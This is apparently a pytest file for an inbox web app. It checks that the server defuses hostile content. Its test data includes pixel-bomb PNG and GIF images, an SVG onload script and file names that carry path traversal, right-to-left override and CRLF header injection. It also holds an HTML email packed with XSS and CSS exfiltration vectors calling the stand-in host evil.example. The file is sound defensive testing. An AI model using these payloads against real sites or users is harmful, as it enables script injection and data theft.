"""What strangers send to hurt whoever reads it: at the level of what the server answers."""

import re
import struct
import zlib
from base64 import b64encode

import pytest

from inbox.file_looks import LARGEST_SHOWN, tame
from router.message import Attachment
from tests.events import a_message, accepted
from tests.inbox.test_files import a_file


def a_png(width: int, height: int) -> bytes:
    """The beginning of a picture that says how large it is."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    dots = zlib.compress(b"\0" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", dots) + chunk(b"IEND", b"")
    )


def a_gif(width: int, height: int, *, frame: tuple[int, int]) -> bytes:
    """A screen of one size, and a first frame of another: a browser draws the larger one."""
    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    remark = b"\x21\xfe\x03abc\0"
    where = b"," + struct.pack("<HHHHB", 0, 0, *frame, 0)
    return b"GIF89a" + screen + remark + where + b"\x02\x03\x44\x01\x05\0;"


@pytest.mark.parametrize(
    ("picture", "status"),
    [
        pytest.param(a_png(4000, 3000), 200, id="a photo"),
        pytest.param(a_png(20_000, 20_000), 404, id="a pixel bomb"),
        pytest.param(a_png(50_000, 50_000), 404, id="gigapixels"),
        pytest.param(a_gif(9, 9, frame=(9, 9)), 200, id="a small moving picture"),
        pytest.param(a_gif(9, 9, frame=(20_000, 20_000)), 404, id="a bomb behind a small screen"),
        pytest.param(a_gif(9, 9, frame=(9, 9))[:30], 404, id="cut off before its first frame"),
        pytest.param(b"GIF89a/*" + b"x" * 100, 404, id="a polyglot without a picture"),
        pytest.param(b"<svg onload=alert(1)>", 404, id="no picture at all"),
        pytest.param(a_png(10, 10) + b"\0" * LARGEST_SHOWN, 404, id="too heavy"),
    ],
)
async def test_a_picture_that_would_hurt_the_browser_is_a_file(stage, browser, picture, status):
    await stage.hire("Anna")
    file = await a_file(stage, picture, name="x.png", mime="image/png", kind="image")
    anna = await browser("Anna")
    drawn = await anna.get(f"/files/{file}", **{"Sec-Fetch-Dest": "image"})
    assert drawn.status == status
    followed = await anna.get(f"/files/{file}", **{"Sec-Fetch-Dest": "document"})
    assert followed.status == 200
    kind = "inline" if status == 200 else "attachment"
    assert followed.headers["Content-Disposition"].startswith(kind)
    assert followed.headers["X-Content-Type-Options"] == "nosniff"
    assert followed.body == picture


@pytest.mark.parametrize(
    ("picture", "mime", "kept"),
    [
        pytest.param(a_png(40, 30), "image/png", True, id="a small one"),
        pytest.param(a_png(50_000, 50_000), "image/png", False, id="gigapixels"),
        pytest.param(a_gif(9, 9, frame=(20_000, 20_000)), "image/gif", False, id="behind a screen"),
        pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml", False, id="a drawing"),
    ],
)  # fmt: skip
async def test_a_picture_inside_a_mail_is_measured_before_it_is_drawn(
    stage, browser, picture, mime, kept
):
    await stage.hire("Anna")
    account = await stage.shop.connect("mail", kind="email")
    address = f"data:{mime};base64,{b64encode(picture).decode()}"
    html = f"<p>Вот</p><img alt='Фото' src='{address}'>"
    await stage.receive(accepted(account, a_message(text="x", html=html), channel="email"))
    message = (await stage.shop.one("select id from message")).id
    anna = await browser("Anna")
    for path in (f"/messages/{message}/html", f"/messages/{message}/html?images=1"):
        text = (await anna.get(path)).text
        assert (address in text) == kept, path
        assert "Фото" in text


async def test_a_picture_known_to_be_too_large_is_not_even_asked_for(stage, browser):
    await stage.hire("Anna")
    account = await stage.shop.connect()
    sha256 = await stage.media.put(b"x")
    file = Attachment(
        kind="image",
        sha256=sha256,
        name="x.png",
        mime="image/png",
        size=50 << 20,
        width=9,
        height=9,
    )
    await stage.receive(accepted(account, a_message(attachments=(file,))))
    talk = (await stage.shop.one("select id from conversation")).id
    page = (await (await browser("Anna")).get(f"/conversations/{talk}")).text
    assert "слишком большое" in page
    assert '<img src="/files/' not in page


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("Счёт\u202efdp.exe", "Счётfdp.exe"),
        ("../../etc/passwd", "_.._etc_passwd"),
        ("a\r\nSet-Cookie: x=1", "aSet-Cookie: x=1"),
        ("..\\..\\x.pdf", "_.._x.pdf"),
        ("x" * 500 + ".pdf", "x" * 196 + ".pdf"),
        ("\u2066\u200f", ""),
    ],
)
async def test_a_files_name_is_what_it_seems_to_be(stage, browser, name, shown):
    assert tame(name) == shown
    await stage.hire("Anna")
    file = await a_file(stage, b"x", name=name, mime="application/x-msdownload")
    answer = await (await browser("Anna")).get(f"/files/{file}")
    disposition = answer.headers["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert not re.search(r"%0A|%0D|%2F|%E2%80%AE|\.\./", disposition)
    assert "Set-Cookie" not in answer.headers or "x=1" not in answer.headers["Set-Cookie"]


async def test_a_mail_keeps_its_looks_and_loses_what_reaches_out(stage, browser):
    await stage.hire("Anna")
    account = await stage.shop.connect("mail", kind="email")
    html = (
        "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>"
        "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(https://evil.example/a)}</style>"
        "<p style='color:#c00; background:url(https://evil.example/p); position:fixed; width:90%'>red</p>"
        "<p style='background-image:u\\72l(//evil.example/q);font-weight:bold'>bold</p>"
        "<a href='data:text/html,<script>1</script>'>data</a><a href=' javascript:x()'>js</a>"
        "<a href='https://shop.example/'>good</a><form action='https://evil.example'><input name=a></form>"
        "<svg><script>x()</script></svg><math><mtext><img src=x onerror=x()></mtext></math>"
        "<img src='https://evil.example/i.png' srcset='https://evil.example/j.png 2x'><iframe src='//evil.example'></iframe>"
    )
    await stage.receive(accepted(account, a_message(text="x", html=html), channel="email"))
    message = (await stage.shop.one("select id from message")).id
    anna = await browser("Anna")
    text = (await anna.get(f"/messages/{message}/html")).text
    assert "color:#c00" in text
    assert "width:90%" in text
    assert "font-weight:bold" in text
    assert 'href="https://shop.example/"' in text
    body = text.partition("<body>")[2]
    for forbidden in (
        "evil.example",
        "javascript:",
        "data:text",
        "position",
        "onerror",
        "<form",
        "<base",
        "<meta",
        "<svg",
        "<style",
        "<iframe",
        "srcset",
    ):
        assert forbidden not in body, forbidden
    assert "evil.example/i.png" in (await anna.get(f"/messages/{message}/html?images=1")).text
